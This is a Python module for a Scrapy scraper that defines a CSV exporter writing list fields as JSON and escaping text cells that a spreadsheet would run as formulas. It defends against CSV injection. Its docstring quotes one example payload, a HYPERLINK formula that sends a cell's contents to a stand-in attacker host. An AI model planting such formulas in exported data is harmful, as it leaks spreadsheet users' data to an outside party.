"""Feed exporters: Scrapy's own, with list fields made unambiguous in CSV and page text kept from
running as a spreadsheet formula.

The CSV feed is for analysts who open it in Excel or LibreOffice, where a cell starting with `=`,
`+`, `-` or `@` (or a tab or carriage return before one) is evaluated as a formula: a page titled
`=HYPERLINK("http://evil.example/?"&A1, "Read")` would run in the analyst's spreadsheet (CSV
injection, OWASP). So such text cells get a leading apostrophe, which spreadsheets read as "this
is text". Numbers stay numbers (a negative count is still a number); JSON list cells start with
`[`. The JSON Lines feed and the database keep the text exactly as the page has it: they are the
data of record, the CSV a view of it.
"""

from __future__ import annotations

import json
from typing import Any

from scrapy.exporters import CsvItemExporter

# First characters a spreadsheet reads as the start of a formula (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """`text` with a leading apostrophe when a spreadsheet would evaluate it as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


class JsonListsCsvItemExporter(CsvItemExporter):
    """CSV whose list and object cells (authors, tags, images) are JSON, not comma-joined:
    names may hold commas, and a spreadsheet user can still read them. Text cells that a
    spreadsheet would run as a formula are escaped (see the module docstring)."""

    def serialize_field(self, field: Any, name: str, value: Any) -> Any:
        if isinstance(value, list | dict):
            return json.dumps(value, ensure_ascii=False)
        if isinstance(value, str):
            value = spreadsheet_safe(value)
        return super().serialize_field(field, name, value)
